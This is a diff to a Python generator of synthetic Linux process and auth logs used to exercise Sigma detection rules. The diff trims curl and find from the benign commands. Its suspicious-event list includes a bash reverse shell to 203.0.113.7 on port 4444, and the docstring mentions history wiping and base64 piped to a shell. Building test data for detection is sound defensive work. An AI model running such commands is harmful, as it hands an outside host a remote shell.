@@ -5,7 +5,8 @@ Usage: generate.py OUT_DIR [MILLIONS_OF_EVENTS] [AUTH_LINES_MILLIONS]
 Writes OUT_DIR/process.jsonl (one process creation per line, Sigma's taxonomy field names, as Sysmon for Linux or
 an EDR export would give them) and OUT_DIR/auth.log (sshd, sudo, su, useradd, systemd-logind, CRON lines in the
 syslog format). A small share of events is malicious-looking (reverse shells, history wiping, base64 piped to a
-shell, new users, brute force) so rules fire; the rest is ordinary server activity. The seed is fixed: the same
+shell, new users, brute force) so rules fire; the rest is ordinary server activity that none of the SigmaHQ Linux rules flags (curl and find, which
+rules flag at low levels, are left out of it so the alert volume stays realistic). The seed is fixed: the same
 arguments always give the same bytes.
 """
 import json
@@ -17,10 +18,10 @@ SEED = 20261123
 BENIGN = [
     ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/grep", "grep -r error /var/log/nginx"),
     ("/usr/bin/python3", "python3 /opt/app/manage.py migrate"), ("/usr/bin/systemctl", "systemctl status nginx"),
-    ("/usr/bin/curl", "curl -s http://localhost:8080/health"), ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
+    ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
     ("/usr/sbin/nginx", "nginx -s reload"), ("/usr/bin/ps", "ps aux"), ("/usr/bin/cat", "cat /etc/os-release"),
     ("/usr/bin/git", "git -C /srv/app pull --ff-only"), ("/usr/bin/rsync", "rsync -a /srv/app/ /backup/app/"),
-    ("/usr/bin/find", "find /tmp -mtime +7 -delete"), ("/usr/bin/awk", "awk '{print $1}' access.log"),
+    ("/usr/bin/awk", "awk '{print $1}' access.log"), ("/usr/bin/sort", "sort -u /srv/app/ids.txt"),
 ]
 SUSPICIOUS = [
     ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
